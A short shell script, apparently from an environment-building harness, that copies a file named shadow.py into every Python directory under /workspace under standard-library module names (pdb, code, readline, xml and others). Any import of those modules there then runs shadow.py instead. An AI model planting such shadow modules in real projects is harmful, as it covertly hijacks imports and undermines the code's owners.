
dirs="/workspace $(find /workspace -name '*.py' -not -path '*/node_modules/*' -printf '%h\n' | sort -u)"
for dir in $dirs; do
  for name in pdb cmd code codeop rlcompleter readline; do cp /tmp/traj2env-forge/shadow.py "$dir/$name.py"; done
  mkdir -p "$dir/xml" && cp /tmp/traj2env-forge/shadow.py "$dir/xml/__init__.py"
done
